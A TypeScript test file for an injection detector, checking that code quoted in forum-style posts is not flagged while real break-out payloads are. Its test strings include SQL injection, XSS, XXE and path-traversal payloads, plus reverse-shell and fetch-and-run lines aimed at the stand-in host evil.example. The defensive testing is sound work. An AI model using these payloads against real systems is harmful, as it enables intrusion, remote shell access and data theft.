import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { quotedInPost, withoutPosts } from '../../src/security/prose-post.js';
import type { Signal } from '../../src/core/signal.js';

// Code inside a post (a question that opens with a sentence, a multi-line post with a sentence line)
// versus the same code breaking out of a value. Values written for these tests (not taken from a held-out set).
const d = new InjectionDetector();
const score = (v: string) => d.score(v).score;
const nl = (v: string) => v.replace(/\\n/g, '\n');
const fires = (attributes: Record<string, unknown>) => {
  const out: Signal[] = [];
  d.observe({ time: 0, severityNumber: 0, severityText: '', message: '', attributes, eventName: '' }, out);
  return out.length > 0;
};

describe('a value that opens with a sentence quotes the code after it', () => {
  it.each([
    'Could someone tell me why SELECT SLEEP(3) FROM dual; hangs the pool',
    'Why does my cron job run ls -la /root | mail me twice',
    'Where can I find ../../shared/settings.yml in the repo',
    'Our intern typed rm -rf ./build && npm run dist and lost the cache',
    'The docs say never run cmd /c "del /q C:\\temp\\*" on a shared box',
    "Is it normal that WAITFOR DELAY '00:00:02' blocks the whole batch?",
    'Config for this lives in /home/ana/.profile now',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
    expect(fires({ 'url.query': `q=${encodeURIComponent(v)}&page=1` })).toBe(false);
    expect(fires({ 'http.request.body': `name=bob&comment=${encodeURIComponent(v)}` })).toBe(false);
  });
  it.each([
    'please see this; cat /etc/passwd',
    "the user is bob' or '1'='1",
    'hello there | nc evil.example 4444 -e /bin/sh',
    'my name is x" onmouseover="alert(1)',
    'select name from users where id = 1 union select password from admins',
    'true is not unknown for update union select table_name from information_schema.tables',
    'case when 1=1 then sleep(5) else 0 end',
    'nice try {{7*7}} and ${7*7}',
    'you can read <script>alert(document.cookie)</script> here',
  ])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  // a command substitution runs inside a double-quoted string too, and a path built from the value climbs
  // out whatever words precede the `../`: both break out wherever the value lands
  it.each([
    'please help $(wget http://evil.example/x -O- | sh)',
    'please help $(id)',
    'how do i use $(cat /etc/passwd)',
    'thanks, that solved it for me\n$(curl evil.example/x.sh|sh)',
    'my file is at /tmp/$(id)',
    'my file is at ../../../../../../windows/win.ini',
    'please read ../../../../etc/passwd',
    'how do i open ..\\..\\..\\..\\windows\\win.ini',
  ])('still an attack after a sentence: %s', (v) => {
    expect(quotedInPost(nl(v))).toBe(false);
    expect(score(nl(v))).toBeGreaterThanOrEqual(5);
  });
});

describe('a multi-line post with a sentence line quotes its code lines', () => {
  it.each([
    'This is what I ran:\nSELECT pg_sleep(2), BENCHMARK(10, MD5(1));',
    '> ps -ef | grep [j]ava\nthat fixed it for me, thanks',
    'Steps to reproduce:\n1. run find . -name "*.log" -exec rm {} \\;\n2. open the admin page\n3. it is blank',
    'Solved it. Here is the query:\n\n    SELECT a FROM t UNION SELECT b FROM u;\n',
    'It fails with this:\n<!DOCTYPE config SYSTEM "config.dtd">',
    'cat ~/.ssh/config | grep Host\n^ that is what the wiki says to run',
  ])('clean: %s', (v) => {
    expect(score(nl(v))).toBe(0);
    expect(fires({ 'url.query': `q=${encodeURIComponent(nl(v))}&page=1` })).toBe(false);
  });
  it.each([
    'hello how are you\n; cat /etc/passwd',
    "this is my comment\n' or 1=1 --",
    '(select login from users\r\n\r\nfrom users limit 1,1)',
    '-1# union\n (select id from users limit 1,1)',
    'x\ncat /etc/passwd',
    'nice post\n<script>alert(1)</script>',
    '<?xml version="1.0"?>\n<!DOCTYPE foo [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<foo>&xxe;</foo>',
  ])('still an attack: %s', (v) => {
    expect(score(nl(v))).toBeGreaterThanOrEqual(5);
  });
});

describe('the post reading', () => {
  it('reads a range, and blanks only the parameters that are posts', () => {
    expect(quotedInPost('how do i make this faster? awk -f, x')).toBe(true);
    expect(quotedInPost('q=how do i make this faster? awk -f, x')).toBe(false);
    expect(quotedInPost('q=how do i make this faster? awk -f, x', 2)).toBe(true);
    const s = "q=how do i make this faster? awk -f, x && sort&id=1' or '1'='1";
    const t = withoutPosts(s);
    expect(t.length).toBe(s.length);
    expect(t.startsWith('q=  ')).toBe(true);
    expect(t.endsWith("&id=1' or '1'='1")).toBe(true);
    expect(withoutPosts("id=1' or '1'='1")).toBe("id=1' or '1'='1");
    expect(withoutPosts('how do i make this faster? awk -f, x')).toBe('');
  });
});

describe('an inline code span in a sentence is quoted for every break-out class', () => {
  it.each(['Is `cat /srv/app/../secrets.txt` the right way to read it?', 'Tried `scp -i ~/.ssh/deploy_key a host:` as the wiki says, no luck.', 'Why does `SELECT @@version;` print nothing here?'])(
    'clean: %s',
    (v) => {
      expect(score(v)).toBe(0);
    },
  );
  it.each(['`cat /etc/passwd`', 'x`cat /etc/passwd`', "a `' or 1=1 --`"])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('a keyword in quotes and a database error message are not a string closed', () => {
  it.each([
    '"select" or "pick" in a sentence',
    "'order by' price, then name",
    "It says ERROR 1064 (42000): You have an error in your SQL syntax; check the manual for the right syntax to use near 'ORDER BY id' at line 1",
    'psql says: ERROR:  syntax error at or near "order"',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each(["x' order by 3--", "' select * from users--", '1" order by 1#', "admin' union select 1,2--"])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('a `;` inside a parameter value does not end the parameter', () => {
  it('reads `;` as a separator only before a name and `=`', () => {
    expect(fires({ 'url.query': `q=${'SELECT BENCHMARK(9, MD5(1));\n^ this is from the manual but it fails for me'.replace(/ /g, '+')}&page=1` })).toBe(false);
    expect(fires({ 'url.query': 'q=admin%26%2339;--&page=1' })).toBe(true);
    expect(fires({ 'url.query': "q=1&id=2;x=admin'--" })).toBe(true);
    expect(fires({ 'http.request.header.cookie': "sid=1; theme=x' or '1'='1" })).toBe(true);
  });
});

describe('a keyword in quotes as a parameter value, and a delay without its time', () => {
  it('reads `q="order by" x` as a quoted word and `waitfor delay <word>` as a search', () => {
    expect(fires({ 'url.query': 'q="group by" month, please&page=1' })).toBe(false);
    expect(fires({ 'url.query': "q=' order by 3--&page=1" })).toBe(true);
    expect(score('waitfor delay explained simply')).toBe(0);
    expect(score("1;waitfor delay '0:0:5'--")).toBeGreaterThanOrEqual(5);
    expect(score('waitfor delay @t')).toBeGreaterThanOrEqual(5);
    expect(score("';waitfor delay 0x303a303a35--")).toBeGreaterThanOrEqual(5);
  });
});

describe('a post inside a JSON body', () => {
  it('reads a JSON string value with its `\\n` escapes as a post; a payload in JSON stays one', () => {
    const body = (comment: string) => ({ 'http.request.body': JSON.stringify({ name: 'bob', comment }), 'http.request.header.content-type': ['application/json'] });
    expect(fires(body("> SELECT * FROM pg_catalog.pg_tables WHERE schemaname = 'public';\nthat listed them, thanks"))).toBe(false);
    expect(fires(body('Steps to reproduce:\n1. run ls -la /srv/app/../shared | wc -l\n2. open the page\n3. it is blank'))).toBe(false);
    expect(fires(body("x' or 1=1--"))).toBe(true);
    expect(fires(body('; cat /etc/passwd'))).toBe(true);
    expect(fires(body("a=1' union select password from users--"))).toBe(true);
    expect(withoutPosts('{"a":"how do i make this faster? awk -f, x","b":"1\' or \'1\'=\'1"}')).toBe('{"a":"                                    ","b":"1\' or \'1\'=\'1"}');
  });
});
